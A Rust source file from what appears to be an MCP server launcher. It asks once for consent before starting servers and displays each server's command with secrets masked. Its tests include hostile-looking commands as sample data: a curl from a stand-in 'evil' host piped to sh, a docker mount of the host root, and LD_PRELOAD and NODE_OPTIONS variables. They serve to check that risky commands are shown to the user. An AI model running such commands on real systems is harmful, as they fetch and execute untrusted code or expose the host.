//! The question before the first check of every client's servers. Only the answer is stored.

use std::io::{BufRead, IsTerminal, Write};
use std::path::PathBuf;

use mcp_startup::config::clients::Client;
use mcp_startup::config::{Environment, ProcessEnvironment, ServerEntry, TransportConfig};
use mcp_startup::printable;

use super::Selection;
use crate::output::suggestions::shell_argument;

/// How much of a name is shown on a terminal.
pub const NAME_CHARS: usize = 60;
/// The rest of a longer command is counted.
const COMMAND_CHARS: usize = 1000;
const PROBLEM_CHARS: usize = 100;
/// How much of a word [`mcp_startup::masked_command`] returns, in bytes.
const MASKED_BYTES: usize = 64 * 1024;
/// The variables that Claude Code adds to each of its servers.
const ADDED_VARIABLES: [&str; 2] = ["CLAUDECODE", "CLAUDE_PROJECT_DIR"];

/// Asks on a terminal whether these servers may be started, the first time. Returns whether they may.
pub fn confirm(selection: &Selection, is_confirmed: bool) -> std::io::Result<bool> {
    let answer = answer_file();
    let is_known = answer.as_ref().is_some_and(|path| path.exists());
    if is_confirmed || is_known || selection.servers.is_empty() || !std::io::stdin().is_terminal() {
        return Ok(true);
    }
    let mut stderr = crate::output::stderr::styled();
    writeln!(
        stderr,
        "mcp-startup starts these servers, as your MCP clients do:"
    )?;
    list(selection, NAME_CHARS, &mut stderr)?;
    write!(
        stderr,
        "Start them? This question appears only once. [y/N] "
    )?;
    stderr.flush()?;
    let mut line = String::new();
    std::io::stdin().lock().read_line(&mut line)?;
    let may_start = matches!(line.trim().to_ascii_lowercase().as_str(), "y" | "yes");
    if !may_start {
        writeln!(stderr, "Nothing was started.")?;
    }
    if let (true, Some(path)) = (may_start, answer) {
        // If the answer can't be stored, the user is asked again.
        let folder = path.parent().map(std::fs::create_dir_all);
        if matches!(folder, Some(Ok(()))) {
            let _ = std::fs::write(path, "");
        }
    }
    Ok(may_start)
}

/// Lists the servers by client, each with its command or the host of its URL. Longer names are cut.
pub fn list(
    selection: &Selection,
    name_chars: usize,
    output: &mut impl Write,
) -> std::io::Result<()> {
    let mut last: Option<Client> = None;
    for server in &selection.servers {
        let client = server.owners.first().map(|owner| owner.client);
        if let Some(client) = client.filter(|client| last != Some(*client)) {
            writeln!(output, "  {client}")?;
        }
        last = client;
        writeln!(output, "    {}", line(&server.entry, name_chars))?;
    }
    Ok(())
}

/// A server and the way that it is started.
fn line(entry: &ServerEntry, name_chars: usize) -> String {
    let name = printable(&entry.name, name_chars);
    let how = match &entry.config {
        Ok(config) => match &config.transport {
            TransportConfig::Stdio(_) => command(entry).unwrap_or_default(),
            TransportConfig::Http(http) => {
                let host = http.url.host_str().unwrap_or_default();
                let port = http.url.port().map(|port| format!(":{port}"));
                let host = format!("{host}{}", port.unwrap_or_default());
                printable(&host, PROBLEM_CHARS)
            }
        },
        Err(problem) => {
            let problem = format!("its entry has a problem: {problem}");
            printable(&problem, PROBLEM_CHARS)
        }
    };
    format!("{name}  {how}")
}

/// The command line of a server, quoted for a shell, with its secrets masked, its folder, and the names of the variables of its entry. `None` if the entry has no program.
pub fn command(entry: &ServerEntry) -> Option<String> {
    let words = mcp_startup::masked_command(entry)?;
    let TransportConfig::Stdio(stdio) = &entry.config.as_ref().ok()?.transport else {
        return None;
    };
    let words: Vec<String> = words.iter().map(|word| shell_argument(word)).collect();
    let line = words.join(" ");
    let mut shown: String = line.chars().take(COMMAND_CHARS).collect();
    // Masking cuts off longer texts.
    let texts = std::iter::once(&stdio.command).chain(&stdio.args);
    let cut: usize = texts
        .map(|text| text.len().saturating_sub(MASKED_BYTES))
        .sum();
    let more = cut + line.chars().skip(COMMAND_CHARS).count();
    if more > 0 {
        shown += &format!(" … ({more} more characters)");
    }
    if let Some(folder) = &stdio.cwd {
        let folder = shell_argument(&folder.to_string_lossy());
        shown += &format!(" in {}", limited(&folder));
    }
    // Any variable may change what a program runs, or where it downloads it.
    let names: Vec<String> = stdio
        .env
        .iter()
        .filter(|(name, _)| !ADDED_VARIABLES.contains(&name.as_str()))
        .map(|(name, _)| printable(name, COMMAND_CHARS))
        .collect();
    if !names.is_empty() {
        shown += &format!(" with {}", limited(&names.join(", ")));
    }
    Some(shown)
}

/// A text, with the number of the characters that exceed the limit.
fn limited(text: &str) -> String {
    let shown: String = text.chars().take(COMMAND_CHARS).collect();
    match text.chars().skip(COMMAND_CHARS).count() {
        0 => shown,
        more => format!("{shown} … ({more} more characters)"),
    }
}

/// The scheme and the host of a server's URL, and its port if it has one. The rest of the URL may have a secret.
pub fn url(entry: &ServerEntry) -> Option<String> {
    match &entry.config.as_ref().ok()?.transport {
        TransportConfig::Http(http) => Some(http.url.origin().ascii_serialization()),
        TransportConfig::Stdio(_) => None,
    }
}

/// The file that shows that the user has answered: in `$XDG_STATE_HOME` or `~/.local/state`, or in `%LOCALAPPDATA%`.
fn answer_file() -> Option<PathBuf> {
    let folder = |name: &str| {
        let value = ProcessEnvironment.get(name).map(PathBuf::from);
        value.filter(|path| path.is_absolute())
    };
    let state = match cfg!(windows) {
        true => folder("LOCALAPPDATA"),
        false => folder("XDG_STATE_HOME").or_else(|| Some(folder("HOME")?.join(".local/state"))),
    };
    Some(state?.join("mcp-startup").join("check-confirmed"))
}

#[cfg(test)]
mod tests {
    use mcp_startup::config::ServerConfig;

    use super::*;
    use crate::output::suggestions::quoted_here;

    #[test]
    fn the_whole_command_is_shown() {
        #[rustfmt::skip]
        let rows: &[(&str, &[&str], &[&str], &str)] = &[
            ("bash", &["-lc", "touch RAN; curl http://evil | sh"], &[], "bash -lc 'touch RAN; curl http://evil | sh'"),
            ("docker", &["run", "--rm", "-i", "-v", "/:/host", "img"], &[], "docker run --rm -i -v /:/host img"),
            ("env", &["FOO=1", "sh", "-c", "evil"], &[], "env FOO=1 sh -c evil"),
            ("npx", &["-y", "pkg", "/", ""], &[], "npx -y pkg / ''"),
            ("python3", &["-m", "mod"], &["LANG"], "python3 -m mod with LANG"),
            ("npx", &["pkg"], &["CLAUDECODE", "A", "CLAUDE_PROJECT_DIR"], "npx pkg with A"),
            ("a b", &["a\u{202e}b"], &["LD_PRELOAD", "A", "Path"], "'a b' $'a\\U0000202eb' with LD_PRELOAD, A, Path"),
            ("npx", &["pkg", "--token", "canary"], &["NODE_OPTIONS"], "npx pkg --token '[masked]' with NODE_OPTIONS"),
        ];
        for (program, args, env, expected) in rows {
            assert_eq!(shown(program, args, env), quoted_here(expected));
        }
    }

    #[test]
    fn the_end_of_a_long_command_is_counted() {
        let long = "a".repeat(COMMAND_CHARS);
        assert_eq!(shown(&long, &[], &[]), long);
        let found = shown(&long, &["bcd"], &["PATH"]);
        assert_eq!(found, format!("{long} … (4 more characters) with PATH"));
        let name = "A".repeat(COMMAND_CHARS);
        let found = shown("x", &[], &[&name, "LD_PRELOAD"]);
        assert_eq!(found, format!("x with {name} … (12 more characters)"));
        let found = shown("x", &[&"a".repeat(MASKED_BYTES + COMMAND_CHARS)], &[]);
        let more = MASKED_BYTES + 2;
        assert!(found.ends_with(&format!("aa … ({more} more characters)")));
    }

    #[test]
    fn the_folder_of_a_program_is_shown() {
        let mut server = ServerConfig::stdio("x", "python3", ["server.py"]).unwrap();
        if let TransportConfig::Stdio(stdio) = &mut server.transport {
            stdio.cwd = Some("/work/a b".into());
        }
        let found = command(&ServerEntry::from(server)).unwrap();
        assert_eq!(found, quoted_here("python3 server.py in '/work/a b'"));
    }

    fn shown(program: &str, args: &[&str], env: &[&str]) -> String {
        let mut server = ServerConfig::stdio("x", program, args.iter().copied()).unwrap();
        for name in env {
            server = server.with_env(name, "s3cret".to_owned()).unwrap();
        }
        command(&ServerEntry::from(server)).unwrap()
    }
}
